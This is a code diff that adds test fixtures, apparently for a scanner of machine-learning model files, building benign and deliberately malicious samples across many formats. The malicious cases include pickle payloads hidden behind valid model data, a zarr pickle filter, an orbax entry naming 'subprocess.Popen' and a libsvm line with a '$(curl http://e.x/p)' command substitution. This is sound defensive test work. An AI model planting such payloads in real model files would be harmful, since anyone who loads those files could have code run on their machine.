@@ -1,5 +1,5 @@
 import type { Table } from '../flatbuffers-builder';
-import { flatbuffer, table } from '../flatbuffers-builder';
+import { flatbuffer, scalar, table } from '../flatbuffers-builder';
 import { bytes, floats, u32, u64, utf8, zeros } from '../bytes';
 import { PAYLOAD, proto } from '../pickle-assembler';
 import { closure, language, numbers, rds, promise, symbol, words, workspace } from '../r-builder';
@@ -43,8 +43,102 @@ const catboost = (value: string): Uint8Array => {
   return bytes('CBM1', u32(core.length), core, zeros(16));
 };
 
+const short = (text: string): Uint8Array => bytes(0xa0 + text.length, text);
+const binary = (data: Uint8Array): Uint8Array => bytes(0xc4, data.length, data);
+/** What Flax saves: a name and an array, which is a value of a type of its own. */
+const flax = (data: Uint8Array): Uint8Array => {
+  const array = bytes(0x93, 0x91, 2, short('float32'), binary(data));
+  return bytes(0x81, short('kernel'), 0xc7, array.length, 1, array);
+};
+const zarray = (filters: unknown): Uint8Array =>
+  utf8(JSON.stringify({ chunks: [5], compressor: null, dtype: '|O', filters, shape: [5], zarr_format: 2 }));
+
+/** A program of one tensor without dimensions, whose number is the first constant. */
+const program = (constant: number): Uint8Array => {
+  const tensor = table(scalar(1, 6), undefined, undefined, undefined, undefined, scalar(4, constant));
+  const plan = table('forward', undefined, [table(scalar(1, 5), tensor)], undefined, undefined, [], [], []);
+  return flatbuffer('ET12', table(scalar(4, 0), [plan], [table(), table(zeros(4))]));
+};
+
+const vectors = bytes(
+  u32(1),
+  u32(1),
+  u32(0),
+  u64(1),
+  u64(0),
+  'the\0',
+  u64(5),
+  0,
+  ...[0, 0].map(() => bytes(0, u64(1), u64(2), floats(2)))
+);
+const fastText = bytes(u32(793712314), u32(12), zeros(56), vectors);
+const tensor16 = (name: string): Uint8Array => bytes(name.length, 0, name);
+const ctranslate2 = bytes(
+  u32(6),
+  tensor16('TransformerSpec\0'),
+  u32(7),
+  u32(1),
+  tensor16('w\0'),
+  1,
+  u32(2),
+  0,
+  u32(8),
+  floats(2),
+  u32(0)
+);
+const crf = (offset: number): Uint8Array =>
+  bytes('lCRF', u32(80), 'FOMC', u32(100), zeros(12), ...[48, 50, 60, 70, offset].map(u32), zeros(32));
+const hnsw = bytes(u64(0), u64(10), u64(2), u64(24), u64(16), u64(8), zeros(96), u32(0), u32(0));
+const faiss = (...inside: readonly Uint8Array[]): Uint8Array =>
+  bytes('IxF2', u32(16), u64(1), u64(2 ** 20), u64(2 ** 20), 1, u32(1), ...inside, floats(16));
+const PICKLE = proto(2, PAYLOAD);
+const engine = (machine: number): Uint8Array =>
+  bytes('ftrt', zeros(60), '\x7fELF\x02\x01\x01', zeros(11), machine, 0, zeros(64));
+
 /** Models that are mostly numbers. */
 export const tabular: readonly MadeCase[] = [
+  ...casesOf('msgpack', { 'flax.msgpack': flax(floats(2)), 'harmful-pickle.msgpack': flax(PICKLE) }),
+  ...casesOf('zarr', {
+    'texts.zarray': zarray([{ id: 'vlen-utf8' }]),
+    'harmful-pickles.zarray': zarray([{ id: 'pickle', protocol: 5 }])
+  }),
+  ...casesOf('orbax', {
+    _METADATA: utf8('{"tree_metadata":{},"use_ocdbt":true}'),
+    callable_METADATA: utf8('{"item_handlers":"subprocess.Popen"}')
+  }),
+  ...casesOf('ocdbt', { 'manifest.ocdbt': bytes(0x0c, 0xdb, 0x3a, 0x2a, u64(16), zeros(4)) }),
+  ...casesOf('blosc', { '0.0': bytes(2, 1, 0x33, 4, u32(8), u32(8), u32(24), zeros(8)) }),
+  ...casesOf('executorch', { 'constant.pte': program(1), 'constant-missing.pte': program(9) }),
+  ...casesOf('flat-tensor', {
+    'weights.ptd': flatbuffer(
+      'FT01',
+      table(scalar(4, 0), [table(scalar(8, 0), scalar(8, 4))], [table('w', scalar(4, 0))])
+    ),
+    'segment-missing.ptd': flatbuffer('FT01', table(scalar(4, 0), [], [table('w', scalar(4, 7))]))
+  }),
+  ...casesOf('fasttext', { 'one-word.bin': fastText, 'harmful-pickle-behind.bin': bytes(fastText, PICKLE) }),
+  ...casesOf('ctranslate2', { 'one-tensor.bin': ctranslate2, 'harmful-pickle-behind.bin': bytes(ctranslate2, PICKLE) }),
+  ...casesOf('crfsuite', { 'model.crfsuite': crf(48), 'offset-outside.crfsuite': crf(4000) }),
+  ...casesOf('hnswlib', { 'two-elements.bin': hnsw, 'harmful-pickle-behind.bin': bytes(hnsw, PICKLE) }),
+  ...casesOf('word2vec-binary', {
+    'two-words.bin': bytes('2 2\n', 'a ', floats(2), 'b ', floats(2)),
+    'harmful-pickle-behind.bin': bytes('1 2\n', 'a ', floats(2), PICKLE)
+  }),
+  ...casesOf('faiss', { 'flat.index': faiss(), 'harmful-pickle.index': faiss(PICKLE) }),
+  ...casesOf('glove', { 'two-words.txt': utf8(['the', 'of'].map(word => `${word}${' 0.5'.repeat(9)}\n`).join('')) }),
+  ...casesOf('libsvm', {
+    'classifier.model': utf8('svm_type c_svc\nkernel_type linear\nnr_class 2\ntotal_sv 1\nSV\n1 1:1\n'),
+    'command.model': utf8('svm_type c_svc\nkernel_type linear\n$(curl http://e.x/p)\nSV\n1 1:1\n')
+  }),
+  ...casesOf('ncnn', { 'model.param': utf8('7767517\n1 1\nInput data 0 1 data 0=3\n') }),
+  ...casesOf('tensorrt', { 'gpu-code.engine': engine(190), 'harmful-library.engine': engine(62) }),
+  ...casesOf('rknn', { 'header.rknn': bytes('RKNN', zeros(60)), 'harmful-pickle-behind.rknn': bytes('RKNN', PICKLE) }),
+  ...casesOf('dlib', { 'network.dat': bytes(1, 1, 1, 13, 'loss_metric_2', zeros(64)) }),
+  ...casesOf('kaldi', { 'final.mdl': bytes('\0B<TransitionModel> ', zeros(64)) }),
+  ...casesOf('raw-tensor', {
+    'weight.bin': floats(400),
+    'harmful-pickle-behind.onnx.data': bytes(floats(400), PICKLE)
+  }),
   ...casesOf('xgboost-json', {
     'model.json': utf8(
       '{"learner":{"feature_names":["a"],"learner_model_param":{"base_score":"5E-1"}},"version":[3,0,0]}'
